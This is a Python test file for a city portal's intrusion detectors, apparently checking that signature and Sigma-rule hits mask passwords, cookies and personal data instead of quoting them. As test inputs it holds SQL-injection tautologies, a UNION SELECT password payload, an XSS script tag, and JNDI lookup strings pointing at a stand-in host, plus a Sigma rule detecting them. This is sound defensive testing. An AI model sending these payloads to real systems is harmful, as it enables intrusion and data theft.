"""A signature or a Sigma rule that matches in a person's secret (a password, a PIN, a session
cookie, credentials) shows where and what shape, never the secret: the detection is read by
every viewer and leaves the city in shared intelligence. Before, a password field that looked
like an injection was quoted whole in the detection."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote, urlencode

import msgspec
import pytest

from citywatch.detect import DetectorRunner
from citywatch.detect.portal.hits import Hit, HitDetector
from citywatch.detect.portal.masking import mask_private, masked
from citywatch.detect.portal.sigma import SigmaRules, SigmaRulesConfig
from citywatch.detect.portal.signatures import WebAttackSignatures
from citywatch.model import Detection, Event, HttpRequest

T0 = 1_773_475_200.0
FORM = (("Host", "portal.aldmere.city"), ("Content-Type", "application/x-www-form-urlencoded"))
JSON = (("Host", "portal.aldmere.city"), ("Content-Type", "application/json"))
SECRET = "Tajna7"
"""The letters of the citizen's own password, beside the part that looks like an attack."""


def _event(uri: str, body: str = "", headers: tuple[tuple[str, str], ...] = FORM) -> Event:
    request = HttpRequest(method="POST", uri=uri, body=body, headers=headers)
    return Event(
        id="r-1", timestamp=T0, dataset="portal.http", source_ip="198.51.100.7", payload=request
    )


def _login(password: str, name: str = "password") -> Event:
    return _event("/login", urlencode({"username": "anna@mail.example", name: password}))


def _detections(detector: HitDetector, event: Event) -> list[Detection]:
    errors: list[Exception] = []
    runner = DetectorRunner(detector, lambda n, e, x: errors.append(x))
    out: list[Detection] = []
    runner.process(event, out)
    runner.flush(out)
    assert not errors
    assert out
    return out


@pytest.mark.parametrize(
    ("password", "rule"),
    [
        (f"{SECRET}' or '1'='1", "web.sqli.tautology"),
        (f"{SECRET}<script>alert(1)</script>", "web.xss.script-tag"),
        (f"${{jndi:ldap://{SECRET}.e.vil/a}}", "web.jndi.lookup"),
    ],
)
def test_a_signature_in_a_password_shows_its_shape_not_the_password(
    password: str, rule: str
) -> None:
    hits = WebAttackSignatures().inspect(_login(password))
    found = {h.rule_id: h for h in hits}
    assert rule in found, sorted(found)
    for hit in hits:
        assert hit.location == "param:password"
        assert SECRET.lower() not in hit.snippet.lower()
        assert hit.snippet == masked(hit.snippet)  # nothing but the punctuation shows
    detection = _detections(WebAttackSignatures(), _login(password))
    text = msgspec.json.encode(detection).decode()
    assert SECRET.lower() not in text.lower()
    assert "anna@mail.example" not in text  # the username was never quoted either


@pytest.mark.parametrize("name", ["lozinka", "oldpwd", "credentials", "cc_number", "Passwort"])
def test_a_secret_is_known_by_its_name_in_the_city_s_languages(name: str) -> None:
    hits = WebAttackSignatures().inspect(_login(f"{SECRET}' or '1'='1", name=name))
    assert hits
    assert all(SECRET.lower() not in h.snippet.lower() for h in hits)


def test_the_same_payload_outside_a_secret_is_quoted() -> None:
    """An analyst still sees what was sent in an ordinary field."""
    payload = f"{SECRET}' or '1'='1"
    hits = WebAttackSignatures().inspect(_login(payload, name="street"))
    assert [h.snippet for h in hits if h.rule_id == "web.sqli.tautology"] == [payload]


def test_credentials_and_session_cookies_are_masked() -> None:
    token = f"${{jndi:ldap://{SECRET}.e.vil/a}}"
    for header in (
        ("Authorization", f"Bearer {token}"),
        ("Cookie", f"lang=hr; SESSIONID={token}"),
        ("Cookie", f"aldsid={token}"),
    ):
        event = _event("/account", headers=(*FORM, header))
        hits = [h for h in WebAttackSignatures().inspect(event) if h.rule_id == "web.jndi.lookup"]
        assert hits, header
        assert all(SECRET.lower() not in h.snippet.lower() and "${" in h.snippet for h in hits)


def _sigma(tmp_path: Path, field: str) -> SigmaRules:
    folder = tmp_path / "rules"
    folder.mkdir(exist_ok=True)
    if field == "keywords":
        detection = "    keywords:\n        - 'jndi:'\n    condition: keywords\n"
    else:
        detection = f"    sel:\n        {field}|contains: 'jndi:'\n    condition: sel\n"
    (folder / "jndi.yml").write_text(
        "title: JNDI lookup\n"
        "id: 5a1f8c2e-3d4b-4c6a-9e7f-0a1b2c3d4e5f\n"
        "status: test\n"
        "tags:\n    - attack.t1190\n"
        "logsource:\n    category: webserver\n"
        f"detection:\n{detection}"
        "level: high\n",
        encoding="utf-8",
    )
    return SigmaRules(SigmaRulesConfig(rule_dirs=[folder], shipped=False))


@pytest.mark.parametrize(
    ("field", "event"),
    [
        (
            "cs-uri-query",
            _event(
                "/login?lang=hr&password="
                + quote(f"{'x' * 40}{SECRET}${{jndi:ldap://e.vil/a}}", safe="${}:/")
            ),
        ),
        (
            "cs-uri-query",
            _event(
                "/login?" + urlencode({"user": "a", "pin": f"{SECRET}${{jndi:x}}"}, safe="${}:")
            ),
        ),
        (
            "keywords",  # anywhere in the request line: the JSON body
            _event(
                "/api/login",
                json.dumps({"login": "anna", "password": f"{SECRET}${{jndi:ldap://e.vil}}"}),
                JSON,
            ),
        ),
        (
            "cs-cookie",
            _event("/", headers=(*FORM, ("Cookie", f"lang=hr; PHPSESSID={SECRET}${{jndi:x}}"))),
        ),
    ],
)
def test_a_sigma_match_in_a_secret_is_masked(tmp_path: Path, field: str, event: Event) -> None:
    detector = _sigma(tmp_path, field)
    hits: list[Hit] = detector.inspect(event)
    assert hits, field
    for hit in hits:
        assert SECRET.lower() not in hit.snippet.lower(), hit


def test_mask_keeps_the_length_and_leaves_other_values() -> None:
    text = "user=anna&password=Tajna%27+or+1%3D1&page=2"
    out = mask_private(text)
    assert len(out) == len(text)
    assert out.startswith("user=anna&password=") and out.endswith("&page=2")
    assert "Tajna" not in out and "%27" not in out and "%" in out


def test_a_sigma_snippet_masks_a_persons_values_beside_the_match_not_the_match() -> None:
    # The snippet of a shipped rule's hit in a tax filing's body showed most of the citizen's
    # IBAN next to the script: a window around the match pulls the neighbours' values in.
    iban, oib = "HR1210010051863000160", "12345678903"
    body = f"oib={oib}&iban={iban}&full_name=Ana+Horvat&note=<script>alert(1)</script>"
    (detection,) = _detections(SigmaRules(), _event("/tax/file", body))
    snippet = detection.attributes["portal"]["snippet"]  # type: ignore[index]
    assert "<script>" in snippet
    assert not any(s in snippet for s in ("10010051863", oib[3:], "Horvat")), snippet
    # an injection in a person's own field is the attack: it is shown
    attack = "x' union select password from users--"
    (hit,) = [
        d
        for d in _detections(
            WebAttackSignatures(), _event("/tax/file", urlencode({"full_name": attack}))
        )
        if d.rule_id.startswith("web.sqli")
    ]
    assert "union select password" in hit.attributes["portal"]["snippet"].lower()  # type: ignore[index]
